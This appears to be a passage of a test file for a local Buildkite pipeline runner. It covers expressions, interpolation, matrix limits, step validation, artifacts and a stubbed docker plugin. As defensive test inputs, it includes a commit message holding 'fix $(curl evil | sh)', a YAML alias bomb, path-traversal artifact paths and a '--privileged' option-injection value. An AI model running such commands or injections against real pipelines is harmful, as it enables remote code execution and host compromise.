import { afterAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { spawn, spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { conditionHolds, ExprError, parseExpr, type Variables } from "../../.buildkite/lib/runner/expr.ts";
import { interpolatePipeline, interpolateString } from "../../.buildkite/lib/runner/interpolate.ts";
import { checkJobCount } from "../../.buildkite/lib/runner/limits.ts";
import {
  definePipeline,
  matrixCombos,
  type PipelineDefinition,
} from "../../.buildkite/lib/runner/definition.ts";
import { loadPipeline } from "../../.buildkite/lib/runner/load.ts";
import { Planner } from "../../.buildkite/lib/runner/plan.ts";
import { controlCodes, REPO } from "../support/helpers.ts";
import { tempDir } from "../support/git.ts";
import { goneWithin, isRunning } from "../support/process.ts";

// These tests start real processes; a busy machine must not fail them by the clock.
setDefaultTimeout(120_000);

const RUNNER = join(REPO, ".buildkite/run-pipeline.ts");
const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

function workdir(pipeline: string): string {
  const dir = tempDir("runner");
  dirs.push(dir);
  writeFileSync(join(dir, "pipeline.yml"), pipeline);
  return dir;
}

const run = (dir: string, args: string[], input?: string) =>
  spawnSync("bun", [RUNNER, ...args, "--dir", dir], { cwd: dir, encoding: "utf8", input, timeout: 60_000 });

type ReportedJob = { label: string; state: string; log: string };

/** Runs the pipeline with --report-json; returns the run and the report's jobs. */
function runReported(dir: string, args: string[] = []) {
  const json = join(dir, "r.json");
  const r = run(dir, ["pipeline.yml", "--report-json", json, ...args]);
  return { r, jobs: (JSON.parse(readFileSync(json, "utf8")) as { jobs: ReportedJob[] }).jobs };
}

const vars = (over: Partial<Variables> = {}): Variables => ({
  "build.branch": "main",
  "build.tag": null,
  "build.message": "Fix: the thing",
  "build.commit": "abc",
  "build.source": "local",
  "build.pull_request.id": "12",
  "build.pull_request.base_branch": "main",
  "build.pull_request.draft": false,
  "build.pull_request.labels": ["ship", "ui"],
  "pipeline.default_branch": "main",
  "pipeline.slug": "mono",
  "build.pull_request.repository": "git@github.com:acme/mono.git",
  "build.pull_request.repository.fork": false,
  "build.id": "b1",
  "build.number": 7,
  "build.state": "started",
  "build.author.email": "dev@example.com",
  "build.author.id": null,
  "build.author.name": "Dev",
  "build.author.teams": [],
  "build.creator.email": "dev@example.com",
  "build.creator.id": null,
  "build.creator.name": "Dev",
  "build.creator.teams": [],
  "pipeline.id": null,
  "pipeline.repository": "git@github.com:acme/mono.git",
  "organization.id": null,
  "organization.slug": "acme",
  env: (n) => ({ DEPLOY: "yes" })[n],
  ...over,
});

describe("if expressions", () => {
  test.each([
    ['build.branch == "main"', true],
    ["build.branch == pipeline.default_branch && build.source == 'local'", true],
    ["build.message =~ /^fix:/i", true],
    ["build.message !~ /^fix:/", true],
    ['build.pull_request.labels includes "ship"', true],
    ['!(build.pull_request.labels includes "backend")', true],
    ["build.tag == null || build.tag =~ /^v/", true],
    ['build.env("DEPLOY") == "yes" && build.env("NOPE") == null', true],
    ["build.pull_request.draft", false],
    ['build.branch != "main" || (build.commit == "x" && true)', false],
  ] as const)("%s → %p", (src, want) => {
    expect(conditionHolds(parseExpr(src), vars())).toBe(want);
  });

  test.each([
    ['build.branch == "main" &&', "the expression ends too early"],
    ["build.branch = 'main'", 'unexpected "=" at column 14'],
    ["build.nope == 1", "unknown variable build.nope at column 1"],
    ['build.branch =~ "main"', "=~ needs a regular expression on its right"],
    ["(build.branch == 'x'", 'expected ")" at the end'],
    ["build.message =~ /[/", "invalid regular expression"],
    ["build.env(BRANCH)", "build.env() takes a string"],
  ])("malformed %s", (src, message) => {
    expect(() => parseExpr(src)).toThrow(ExprError);
    expect(() => parseExpr(src)).toThrow(message);
  });
});

describe("interpolation", () => {
  const env: Record<string, string> = { SET: "v", EMPTY: "" };
  const look = (n: string) => env[n];
  test.each([
    ["$SET and ${SET}", "v and v"],
    ["${UNSET:-d} ${EMPTY:-d} ${EMPTY-d} ${UNSET-d}", "d d  d"],
    ["$$SET costs $$5", "$SET costs $5"],
    ["${UNSET:-${SET}-nested}", "v-nested"],
    ["price: $ 5", "price: $ 5"],
  ])("%s", (src, want) => expect(interpolateString(src, look, "x")).toBe(want));

  test("${VAR?message} fails with the message and the path", () => {
    expect(() => interpolateString("${UNSET?tell me}", look, "steps[2].command")).toThrow(
      "steps[2].command: UNSET: tell me",
    );
  });

  test("top-level env first, then every string and key; the env is not interpolated twice", () => {
    const doc = interpolatePipeline(
      { env: { A: "a", B: "${A}b", C: "$$D" }, steps: [{ "${A}": "${B}${C}" }] },
      () => undefined,
    );
    expect(doc).toEqual({ env: { A: "a", B: "ab", C: "$D" }, steps: [{ a: "ab$D" }] });
  });
});

describe("a value interpolated at upload that a shell would run", () => {
  test.each([
    ["$(", "fix $(curl evil | sh)"],
    ["a backtick", "fix `id`"],
  ])(
    "holding %s warns, naming the variable, the places and the $$ escape, never the value",
    (_name, message) => {
      const dir = workdir(
        [
          "steps:",
          "  - label: say",
          '    command: echo "$BUILDKITE_MESSAGE" ${BUILDKITE_MESSAGE:0:3}; echo "$$BUILDKITE_MESSAGE"',
          "  - label: safe",
          "    command: echo $$SAFE $BUILDKITE_BRANCH",
        ].join("\n"),
      );
      const r = run(dir, ["pipeline.yml", "--dry-run", "--message", message]);
      expect(r.status).toBe(0);
      const warnings = r.stderr.split("\n").filter((l) => l.startsWith("warning:"));
      expect(warnings).toEqual([
        'warning: pipeline.yml: $BUILDKITE_MESSAGE is interpolated at upload into steps[0].command, and its value holds "$(" or a backtick, which a shell runs as a command; write $$BUILDKITE_MESSAGE to leave it to the job\'s shell as a value',
      ]);
      expect(r.stderr).not.toContain(message);
    },
  );

  test("a dynamic upload warns in the uploading job's log; a plain value and $$ never warn", () => {
    const dir = workdir(
      [
        "steps:",
        "  - label: uploader",
        "    env: { RISKY: 'a $(b)', PLAIN: 'a b' }",
        "    command: |",
        "      printf 'steps:\\n  - command: echo $$RISKY $$PLAIN $$$$RISKY\\n' | buildkite-agent pipeline upload",
      ].join("\n"),
    );
    const json = join(dir, "r.json");
    const r = run(dir, ["pipeline.yml", "--report-json", json]);
    expect(r.stderr).not.toContain("warning:");
    const jobs = (JSON.parse(readFileSync(json, "utf8")) as { jobs: { label: string; log: string }[] }).jobs;
    const log = readFileSync(jobs.find((j) => j.label === "uploader")?.log as string, "utf8");
    expect(log).toContain(
      "buildkite-agent: warning: (stdin): $RISKY is interpolated at upload into steps[0].command",
    );
    expect(log).not.toContain("$PLAIN is interpolated");
  });
});

test("matrix adjustments add combinations, skip and soft-fail existing ones", () => {
  const combos = matrixCombos({
    setup: { os: ["linux"], v: ["1", "2"] },
    adjustments: [
      { with: { os: "linux", v: "2" }, skip: true },
      { with: { os: "mac", v: "1" }, soft_fail: [{ exit_status: 3 }] },
    ],
  });
  expect(combos.map((c) => [c.values, c.skip, c.softFail])).toEqual([
    [{ os: "linux", v: "1" }, null, null],
    [{ os: "linux", v: "2" }, "matrix adjustment skip: true", null],
    [{ os: "mac", v: "1" }, null, { any: false, statuses: [3] }],
  ]);
});

describe("run-pipeline.ts", () => {
  const pipeline = `steps:
  - label: build
    key: build
    command: echo build
  - label: test {{matrix}}
    key: test
    depends_on: build
    matrix: [a, b]
    command: echo test
  - wait
  - label: deploy
    key: deploy
    command: echo deploy
  - label: docs
    key: docs
    depends_on: ~
    command: echo docs
`;

  test("--dry-run shows the expanded graph and runs nothing", () => {
    const dir = workdir(pipeline);
    const r = run(dir, ["pipeline.yml", "--dry-run"]);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('command test "test {{matrix}}" after build');
    expect(r.stdout).toContain('"test a" matrix {"matrix":"a"}');
    expect(r.stdout).toContain('wait step-3 "wait" after build, test');
    expect(r.stdout).toContain('command deploy "deploy" after wait');
    expect(r.stdout).toContain('command docs "docs" after nothing');
    expect(existsSync(join(dir, ".buildkite/.local"))).toBe(false);
  });

  test("--dry-run --json is the graph as data", () => {
    const r = run(workdir(pipeline), ["pipeline.yml", "--dry-run", "--json"]);
    const graph = JSON.parse(r.stdout) as {
      steps: { key: string | null; kind: string; jobs: unknown[]; depends_on: { step: string }[] }[];
    };
    expect(graph.steps.map((s) => [s.key, s.kind, s.jobs.length])).toEqual([
      ["build", "command", 1],
      ["test", "command", 2],
      [null, "wait", 0],
      ["deploy", "command", 1],
      ["docs", "command", 1],
    ]);
    expect(graph.steps[2]?.depends_on.map((d) => d.step)).toEqual(["build", "test"]);
  });

  test("--list lists the steps; --step runs a step and what it needs, nothing else", () => {
    const dir = workdir(pipeline);
    const list = run(dir, ["pipeline.yml", "--list"]);
    expect(list.stdout.split("\n").filter(Boolean)).toHaveLength(5);
    const report = join(dir, "r.json");
    const r = run(dir, ["pipeline.yml", "--step", "test", "--report-json", report]);
    expect(r.status).toBe(0);
    const states = Object.fromEntries(
      (JSON.parse(readFileSync(report, "utf8")) as { jobs: { label: string; state: string }[] }).jobs.map(
        (j) => [j.label, j.state],
      ),
    );
    expect(states).toEqual({
      build: "passed",
      "test a": "passed",
      "test b": "passed",
      deploy: "skipped",
      docs: "skipped",
    });
    expect(run(dir, ["pipeline.yml", "--step", "nope"]).stderr).toContain(
      "--step nope: no step has that key",
    );
  });

  test("reads a pipeline from stdin, and writes JUnit and a timeline", () => {
    const dir = workdir("");
    const r = run(
      dir,
      ["-", "--junit", join(dir, "j.xml"), "--timeline", join(dir, "t.html")],
      pipeline.replace("echo docs", "exit 3"),
    );
    expect(r.status).toBe(1);
    const xml = readFileSync(join(dir, "j.xml"), "utf8");
    expect(xml).toContain('<testsuite name="buildkite" tests="5" failures="1" skipped="0"');
    expect(xml).toMatch(
      /<testcase classname="docs" name="docs" time="[\d.]+"><failure type="failed" message="exited 3">/,
    );
    const html = readFileSync(join(dir, "t.html"), "utf8");
    expect(html).toStartWith("<!doctype html>");
    expect(html.match(/class="bar"/g)).toHaveLength(5);
    expect(html).not.toMatch(/<script|https?:\/\//);
  });

  test("--spawn caps how many jobs run at once", () => {
    const steps = Array.from(
      { length: 6 },
      (_, i) =>
        `  - label: j${i}\n    command: |\n      echo "$(date +%s%N) +" >> events\n      sleep 0.2\n      echo "$(date +%s%N) -" >> events\n`,
    ).join("");
    const dir = workdir(`steps:\n${steps}`);
    expect(run(dir, ["pipeline.yml", "--spawn", "2"]).status).toBe(0);
    let now = 0;
    let peak = 0;
    const marks = readFileSync(join(dir, "events"), "utf8")
      .trim()
      .split("\n")
      .map((l) => l.split(" ") as [string, string]);
    for (const [, m] of marks.sort((a, b) => (BigInt(a[0]) < BigInt(b[0]) ? -1 : 1))) {
      now += m === "+" ? 1 : -1;
      peak = Math.max(peak, now);
    }
    expect(peak).toBe(2);
  });

  test("bad arguments exit 2 and name the option", () => {
    const dir = workdir(pipeline);
    for (const [args, message] of [
      [["--spawn", "0"], "--spawn 0"],
      [["--block", "maybe"], "--block maybe"],
      [["--env", "NOEQUALS"], "--env NOEQUALS: expected NAME=VALUE"],
      [["missing.yml"], "missing.yml"],
    ] as const) {
      const r = run(dir, [...args]);
      expect(r.status).toBe(2);
      expect(r.stderr).toContain(message);
    }
  });

  test("SIGINT cancels running jobs, kills their process groups, and still writes the report", async () => {
    const dir = workdir(`steps:
  - label: sleeper
    command: |
      sleep 300 &
      echo $$! > child.pid
      sleep 300
  - label: queued
    depends_on: ~
    command: sleep 300
  - wait
  - label: never
    command: "true"
`);
    const child = spawn(
      "bun",
      [RUNNER, "pipeline.yml", "--dir", dir, "--report-json", join(dir, "r.json"), "--spawn", "1"],
      {
        cwd: dir,
        stdio: "ignore",
      },
    );
    const deadline = Date.now() + 20_000;
    while (!existsSync(join(dir, "child.pid")) && Date.now() < deadline) await Bun.sleep(50);
    await Bun.sleep(100);
    child.kill("SIGINT");
    const code = await new Promise<number | null>((resolve) => child.once("exit", resolve));
    expect(code).toBe(1);
    const report = JSON.parse(readFileSync(join(dir, "r.json"), "utf8")) as {
      state: string;
      jobs: { label: string; state: string }[];
    };
    expect(report.state).toBe("canceled");
    expect(report.jobs.map((j) => [j.label, j.state])).toEqual([
      ["sleeper", "canceled"],
      ["queued", "canceled"],
      ["never", "canceled"],
    ]);
    const pid = Number(readFileSync(join(dir, "child.pid"), "utf8"));
    expect(pid).toBeGreaterThan(0);
    expect(await goneWithin(pid, 5000)).toBe(true);
    // Nothing the build started is left running in its directory.
    const leftovers = spawnSync("pgrep", ["-f", "sleep 300"], { encoding: "utf8" })
      .stdout.split("\n")
      .filter(Boolean)
      .map(Number)
      .filter(
        (p) =>
          isRunning(p) &&
          spawnSync("readlink", [`/proc/${p}/cwd`], { encoding: "utf8" }).stdout.trim() === dir,
      );
    expect(leftovers).toEqual([]);
  }, 60_000);
});

describe("input Buildkite would refuse, or that would exhaust us", () => {
  test("an alias bomb is refused with exit 2 and the file named, not a crash", () => {
    const levels = ["a: &a [x, x, x, x, x, x, x, x, x, x]"];
    for (let i = 1; i < 8; i++) {
      const prev = String.fromCharCode(96 + i);
      const name = String.fromCharCode(97 + i);
      levels.push(`${name}: &${name} [${Array(10).fill(`*${prev}`).join(", ")}]`);
    }
    const dir = workdir(`${levels.join("\n")}\nsteps:\n  - command: "true"\n`);
    const r = run(dir, ["pipeline.yml", "--dry-run"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("pipeline.yml:");
    expect(r.stderr).toContain("alias");
    expect(r.stderr).not.toMatch(/^\s+at /m);
  });

  test.each([
    [["--plugins", "maybe"], "--plugins maybe: expected fail or skip"],
    [["--block", "later"], "--block later: expected continue or stop"],
    [["--meta-data", "novalue"], "--meta-data novalue: expected NAME=VALUE"],
  ])("%p exits 2 naming the flag", (args, message) => {
    const dir = workdir('steps:\n  - command: "true"\n');
    const r = run(dir, ["pipeline.yml", ...args]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(message);
  });
});

describe("Buildkite's upload rules for step kinds and properties", () => {
  test.each([
    [
      "a mapping with no kind",
      "  - frobnicate: yes",
      "steps[0]: Step is missing a type (its keys: frobnicate)",
    ],
    ["a step with only a name", "  - name: foo", "steps[0]: Step is missing a type (its keys: name)"],
    [
      "a bare string that is not a step",
      "  - frobnicate",
      'steps[0]: Step is missing a type ("frobnicate" is not a step)',
    ],
    ["an unknown type", "  - type: frob\n    command: x", 'steps[0]: unknown step type "frob"'],
    [
      "an unknown property on a command step",
      "  - command: x\n    shell: bash",
      "steps[0].shell: `shell` is not a valid property on the `command` step. Please check the documentation",
    ],
    [
      "a near miss, with the API's suggestion",
      "  - command: x\n    agent: { queue: a }",
      "steps[0].agent: `agent` is not a valid property on the `command` step, perhaps you meant `agents`?",
    ],
    [
      "the nested command form",
      "  - command: { command: x, artifacts: a }",
      "steps[0].artifacts: `artifacts` is not a valid property on the `command` step",
    ],
    [
      "a wait step",
      "  - wait: ~\n    env: {}",
      "steps[0].env: `env` is not a valid property on the `wait` step",
    ],
    [
      "a block step",
      "  - block: ok\n    foo: 1",
      "steps[0].foo: `foo` is not a valid property on the `block` step",
    ],
    [
      "an input step",
      "  - input: i\n    env: {}",
      "steps[0].env: `env` is not a valid property on the `input` step",
    ],
    [
      "a trigger step",
      "  - trigger: t\n    foo: 1",
      "steps[0].foo: `foo` is not a valid property on the `trigger` step",
    ],
    [
      "a group, whose type is refused too",
      "  - group: g\n    type: group\n    steps: [{ command: x }]",
      "steps[0].type: `type` is not a valid property on a step group",
    ],
    [
      "a step inside a group",
      "  - group: g\n    steps:\n      - command: x\n        shell: sh",
      "steps[0].steps[0].shell: `shell` is not a valid property on the `command` step",
    ],
  ])("%s is refused with Buildkite's message: exit 2, nothing run", (_name, yaml, message) => {
    const dir = workdir(`steps:\n${yaml}\n  - label: marker\n    command: touch ran\n`);
    const r = run(dir, ["pipeline.yml"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(message);
    expect(r.stderr).not.toMatch(/^\s+at /m);
    expect(r.stdout).toBe("");
    expect(existsSync(join(dir, "ran"))).toBe(false);
  });

  test.each([
    [
      "a key used twice",
      "  - { key: a, command: x }\n  - { key: a, command: y }",
      'steps[1].key: duplicate key "a" (first at steps[0])',
    ],
    [
      "a dependency cycle",
      "  - { key: a, depends_on: b, command: x }\n  - { key: b, depends_on: a, command: y }",
      "dependency cycle: a → b → a",
    ],
    [
      "concurrency without a group",
      "  - { command: x, concurrency: 1 }",
      "steps[0].concurrency: concurrency needs a concurrency_group",
    ],
    [
      "if with branches",
      "  - { command: x, if: 'build.branch == \"main\"', branches: main }",
      "steps[0].if: if and branches cannot be used together",
    ],
  ])("%s is refused: exit 2, naming the step", (_name, yaml, message) => {
    const dir = workdir(`steps:\n${yaml}\n`);
    const r = run(dir, ["pipeline.yml", "--dry-run"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(message);
  });

  test("every kind's own properties, the agent's aliases and the plugin-only command step are accepted", () => {
    const dir = workdir(
      [
        "steps:",
        "  - plugins: [{ foo#v1.0.0: {} }]",
        "  - command: x",
        "    timeout: 5",
        "    type: script",
        "  - waiter",
        "  - wait: ~",
        "    continue_on_failure: true",
        "  - block: b",
        "    prompt: p",
        "    blocked_state: passed",
        "  - input: i",
        "    fields: [{ text: t, key: t }]",
        "  - trigger: t",
        "    async: true",
        "  - group: g",
        "    notify: [{ email: a@b.c }]",
        "    steps: [{ command: y }]",
      ].join("\n"),
    );
    const r = run(dir, ["pipeline.yml", "--dry-run"]);
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
  });

  test("a dynamic upload is held to the same rules: its job fails, naming the property", () => {
    const dir = workdir(
      [
        "steps:",
        "  - label: uploader",
        "    command: |",
        "      printf 'steps:\\n  - command: x\\n    shell: sh\\n' | buildkite-agent pipeline upload",
      ].join("\n"),
    );
    const { r, jobs } = runReported(dir);
    expect(r.status).toBe(1);
    expect(jobs.map((j) => [j.label, j.state])).toEqual([["uploader", "failed"]]);
    expect(readFileSync(jobs[0]?.log as string, "utf8")).toContain(
      "`shell` is not a valid property on the `command` step",
    );
  });
});

describe("bounded, as Buildkite bounds a build", () => {
  const dims = (n: number) => Array.from({ length: n }, (_, i) => `v${i}`);

  test("a 10⁶-combination matrix is refused with exit 2 before it is expanded", () => {
    const matrix = { setup: { a: dims(100), b: dims(100), c: dims(100) } };
    const dir = workdir(JSON.stringify({ steps: [{ command: "true", matrix }] }));
    const r = run(dir, ["pipeline.yml", "--dry-run"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("steps[0]: makes 1000000 jobs; one upload may make at most 500");
  });

  test("a matrix with parallelism is refused, as Buildkite refuses it", () => {
    const dir = workdir('steps:\n  - command: "true"\n    parallelism: 2\n    matrix: [a, b]\n');
    const r = run(dir, ["pipeline.yml", "--dry-run"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("steps[0]: a matrix step cannot also set parallelism");
  });

  test("an upload over the limit fails the job that uploads it, and adds nothing", () => {
    const big = JSON.stringify({ steps: [{ command: "true", matrix: dims(501) }] });
    const dir = workdir(
      "steps:\n  - label: uploader\n    command: buildkite-agent pipeline upload big.json\n",
    );
    writeFileSync(join(dir, "big.json"), big);
    const json = join(dir, "r.json");
    const r = run(dir, ["pipeline.yml", "--report-json", json]);
    expect(r.status).toBe(1);
    const report = JSON.parse(readFileSync(json, "utf8")) as { jobs: { label: string; state: string }[] };
    expect(report.jobs.map((j) => [j.label, j.state])).toEqual([["uploader", "failed"]]);
    expect(r.stdout + r.stderr).toContain("at most 500");
  });

  test("the per-build limit counts the jobs already in the build", () => {
    const doc = definePipeline({ steps: [{ command: "true", parallelism: 200 }] }, "up.yml");
    expect(() => checkJobCount(doc, "up.yml", 3900)).toThrow(
      "up.yml: the build would have 4100 jobs; a build may have at most 4000",
    );
    expect(checkJobCount(doc, "up.yml", 100)).toBe(200);
  });
});

describe("the whole conditional language", () => {
  test.each([
    ['build.branch == "main" // only on main', true],
    ['// a leading comment\nbuild.branch == "main" &&\n// and one between\nbuild.tag == null', true],
    ['["main", "release"] includes build.branch', true],
    ['["dev", "release"] includes build.branch', false],
    ["build.pull_request.labels includes 'ui'", true],
    ["build.pull_request.repository.fork == false", true],
    ["build.number == 7", true],
    ['build.creator.email == "dev@example.com" && build.author.name == "Dev"', true],
    ['organization.slug == "acme" && pipeline.repository =~ /acme/', true],
    ['build.env("DEPLOY") == "yes"', true],
    ['!(build.id == null) && build.state == "started"', true],
  ])("%p is %p", (src, expected) => {
    const v = { ...vars(), env: (n: string) => (n === "DEPLOY" ? "yes" : undefined) };
    expect(conditionHolds(parseExpr(src), v)).toBe(expected);
  });

  test("the flags feed if conditions and the job environment alike", () => {
    const dir = workdir(
      [
        "steps:",
        '  - label: tagged\n    if: build.tag == "v1.2.3" && build.source == "schedule"',
        '    command: printf "%s %s %s" "$$BUILDKITE_TAG" "$$BUILDKITE_SOURCE" "$$BUILDKITE_PULL_REQUEST_BASE_BRANCH" > out.txt',
        '  - label: pr-to-release\n    if: build.pull_request.base_branch == "release"\n    command: "true"',
      ].join("\n"),
    );
    const args = ["pipeline.yml", "--tag", "v1.2.3", "--source", "schedule", "--pull-request", "5"];
    const r = run(dir, [...args, "--pull-request-base", "release"]);
    expect(r.status).toBe(0);
    expect(readFileSync(join(dir, "out.txt"), "utf8")).toBe("v1.2.3 schedule release");
    expect(r.stdout).toMatch(/passed.*pr-to-release/);
  });
});

describe("artifacts, as on Buildkite", () => {
  const pipeline = [
    "steps:",
    "  - label: producer",
    "    key: producer",
    '    artifact_paths: "out/*.txt;logs/**/*.log"',
    "    command: mkdir -p out logs/a && echo one > out/one.txt && echo log > logs/a/x.log && exit 3",
    "  - wait: ~",
    "    continue_on_failure: true",
    "  - label: consumer",
    '    command: buildkite-agent artifact download "out/*.txt;logs/**/*.log" got --step producer && cat got/out/one.txt got/logs/a/x.log > seen.txt',
  ].join("\n");

  test("artifact_paths are uploaded after the job, even when it failed; download takes ; globs and --step", () => {
    const dir = workdir(pipeline);
    const r = run(dir, ["pipeline.yml"]);
    expect(r.stdout).toContain("uploaded 2 artifact(s) for out/*.txt;logs/**/*.log");
    expect(readFileSync(join(dir, "seen.txt"), "utf8")).toBe("one\nlog\n");
  });

  test.each([["../outside.txt"], ["/etc/hostname"], ["out/../../x"]])(
    "an artifact path %p that leaves the checkout is refused",
    (path) => {
      const dir = workdir(`steps:\n  - command: buildkite-agent artifact upload "${path}"\n`);
      const r = run(dir, ["pipeline.yml"]);
      expect(r.status).toBe(1);
      expect(r.stdout + r.stderr).toContain("leaves the build's checkout; it is refused");
    },
  );

  test("--isolate gives each job a clean checkout: a pipeline that forgets its artifacts fails, as on Buildkite", () => {
    const dir = workdir(
      "steps:\n  - command: echo made > made.txt\n  - wait: ~\n  - command: cat made.txt\n",
    );
    for (const args of [
      ["init", "-q"],
      ["add", "-A"],
      ["-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "-m", "x"],
    ])
      spawnSync("git", args, { cwd: dir });
    expect(run(dir, ["pipeline.yml"]).status).toBe(0);
    rmSync(join(dir, "made.txt"));
    const isolated = run(dir, ["pipeline.yml", "--isolate"]);
    expect(isolated.status).toBe(1);
    expect(isolated.stdout).toContain("made.txt: No such file or directory");
  });

  test("--isolate outside a git checkout exits 2", () => {
    const dir = workdir('steps:\n  - command: "true"\n');
    const r = run(dir, ["pipeline.yml", "--isolate"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("--isolate:");
  });
});

describe("the docker plugin runs its job in Docker when a daemon answers", () => {
  // A stand-in `docker`: `info` answers as a daemon would (or not, with DOCKER_DOWN), and `run`
  // records its arguments, one per line, and the value its container would see for SECRET_TOKEN.
  function withDocker(pipeline: string, env: Record<string, string> = {}) {
    const dir = workdir(pipeline);
    const bin = join(dir, "fake-bin");
    mkdirSync(bin);
    writeFileSync(
      join(bin, "docker"),
      [
        "#!/bin/sh",
        'if [ "$1" = info ]; then [ -z "$DOCKER_DOWN" ]; exit $?; fi',
        'printf "%s\\n" "$@" > docker-args',
        'echo "${SECRET_TOKEN:-unset}" > docker-secret',
        'echo "${INLINE_TOKEN:-unset}" > docker-inline',
        'echo "inside the container: ${INLINE_TOKEN:-unset}"',
        "exit 0",
      ].join("\n"),
    );
    chmodSync(join(bin, "docker"), 0o755);
    const r = spawnSync("bun", [RUNNER, "pipeline.yml", "--dir", dir], {
      cwd: dir,
      encoding: "utf8",
      timeout: 60_000,
      env: { ...process.env, PATH: `${bin}:${process.env.PATH}`, ...env },
    });
    return { dir, r };
  }

  const pipeline = [
    "env:",
    "  SECRET_TOKEN: s3cr3t-value-123",
    "steps:",
    "  - label: in-docker",
    '    command: "echo hi; echo there"',
    "    plugins:",
    "      - docker#v5.12.0:",
    "          image: node:22-alpine",
    "          environment: [SECRET_TOKEN, PLAIN=1, INLINE_TOKEN=inl1ne-v4lue-789]",
    "          volumes: ['./cache:/cache']",
  ].join("\n");

  test("docker run gets the image, the checkout at /workdir, variables by name, and the command as one argument", () => {
    const { dir, r } = withDocker(pipeline);
    expect(r.status).toBe(0);
    const args = readFileSync(join(dir, "docker-args"), "utf8").split("\n").slice(0, -1);
    expect(args.slice(0, 3)).toEqual(["run", "--rm", "--init"]);
    expect(args).toContain(`${dir}:/workdir`);
    expect(args).toContain(`${dir}/cache:/cache`);
    expect(args).toContain("--workdir=/workdir");
    expect(args).toContain("SECRET_TOKEN");
    // A value set in the plugin's environment list is passed by name too, and redacted.
    expect(args).toContain("INLINE_TOKEN");
    expect(args.join("\n")).not.toContain("inl1ne-v4lue-789");
    expect(readFileSync(join(dir, "docker-inline"), "utf8")).toBe("inl1ne-v4lue-789\n");
    expect(r.stdout + r.stderr).not.toContain("inl1ne-v4lue-789");
    expect(r.stdout).toContain("inside the container: [REDACTED]");
    expect(args.slice(-5)).toEqual(["node:22-alpine", "/bin/sh", "-e", "-c", "echo hi; echo there"]);
    // The secret reaches the container through the environment, never through an argument.
    expect(args.join("\n")).not.toContain("s3cr3t-value-123");
    expect(readFileSync(join(dir, "docker-secret"), "utf8")).toBe("s3cr3t-value-123\n");
  });

  test("without a daemon, or with an option it cannot honour, the job fails and says why", () => {
    const down = withDocker(pipeline, { DOCKER_DOWN: "1" });
    expect(down.r.status).toBe(1);
    expect(down.r.stdout).toContain("no Docker daemon is reachable");
    expect(existsSync(join(down.dir, "docker-args"))).toBe(false);

    // A config value never becomes an option of docker: an image starting with "-" is refused.
    const option = withDocker(pipeline.replace("image: node:22-alpine", 'image: "--privileged"'));
    expect(option.r.status).toBe(1);
    expect(option.r.stdout).toContain('image "--privileged" is not an image reference');
    expect(existsSync(join(option.dir, "docker-args"))).toBe(false);

    const odd = withDocker(
      pipeline.replace("image: node:22-alpine", "image: node:22-alpine\n          tmpfs: [/tmp]"),
    );
    expect(odd.r.status).toBe(1);
    expect(odd.r.stdout).toContain(
      "plugin docker: docker plugin option(s) tmpfs are not supported by the local runner",
    );
    expect(existsSync(join(odd.dir, "docker-args"))).toBe(false);
  });

  test("docker-compose still fails: its containers are not started locally", () => {
    const { r } = withDocker(
      "steps:\n  - label: compose\n    plugins:\n      - docker-compose#v5.4.0:\n          run: app\n",
    );
    expect(r.status).toBe(1);
    expect(r.stdout).toContain(
      "plugin docker-compose runs the command in containers the local runner does not start",
    );
  });
});

describe("one typed model", () => {
  test("each step is defined once, with its condition parsed, as plain data that plans the same after JSON", () => {
    const { pipeline } = loadPipeline(
      [
        "priority: 2",
        "steps:",
        '  - label: "lint %n"',
        '    if: build.branch =~ /^ma/ && build.env("DEPLOY") == "yes"',
        "    parallelism: 2",
        "    retry: { automatic: [{ exit_status: [1, 2], signal: sigkill, limit: 3 }] }",
        "    command: lint",
        "  - wait",
        "  - group: g",
        "    steps:",
        "      - { key: t, command: test, soft_fail: [{ exit_status: 4 }], matrix: [a, b] }",
      ].join("\n"),
      "p.yml",
      { interpolate: true, lookup: () => undefined },
    );
    const [lint, , group] = pipeline.steps;
    expect(lint?.condition?.expr.kind).toBe("binary");
    expect(lint?.retry).toEqual([{ exitStatus: [1, 2], signal: ["KILL"], signalReason: "*", limit: 3 }]);
    expect(group?.steps[0]?.matrix?.map((c) => c.values[""])).toEqual(["a", "b"]);
    expect(group?.steps[0]?.softFail).toEqual({ any: false, statuses: [4] });
    const plan = (p: PipelineDefinition) => {
      const planner = new Planner(vars());
      planner.plan(p);
      return [...planner.graph.jobs.values()].map((j) => [j.label, j.skip, j.priority, j.retry.length]);
    };
    const planned = plan(pipeline);
    expect(planned).toEqual([
      ["lint 0", null, 2, 1],
      ["lint 1", null, 2, 1],
      ["t", null, 2, 0],
      ["t", null, 2, 0],
    ]);
    expect(plan(JSON.parse(JSON.stringify(pipeline)) as PipelineDefinition)).toEqual(planned);
    expect(plan({ ...pipeline, steps: pipeline.steps.slice(0, 1) }).map((j) => j[1])).toEqual([null, null]);
    const offMain = new Planner(vars({ "build.branch": "dev" }));
    offMain.plan(pipeline);
    expect([...offMain.graph.jobs.values()][0]?.skip).toContain("is false");
  });
});

describe("job logs", () => {
  test("a job's log holds its attempts' output; a job that printed nothing has none, and the report says so", () => {
    const dir = workdir(
      [
        "steps:",
        "  - label: quiet",
        '    command: "true"',
        "  - label: chatty",
        "    command: echo said-something",
        "    retry: { automatic: [{ exit_status: 3, limit: 1 }] }",
        "  - label: flaky",
        "    command: 'if [ -e again ]; then echo second; else touch again; echo first; exit 3; fi'",
        "    retry: { automatic: [{ exit_status: 3, limit: 1 }] }",
      ].join("\n"),
    );
    const json = join(dir, "r.json");
    expect(run(dir, ["pipeline.yml", "--report-json", json]).status).toBe(0);
    const jobs = (JSON.parse(readFileSync(json, "utf8")) as { jobs: { label: string; log: string | null }[] })
      .jobs;
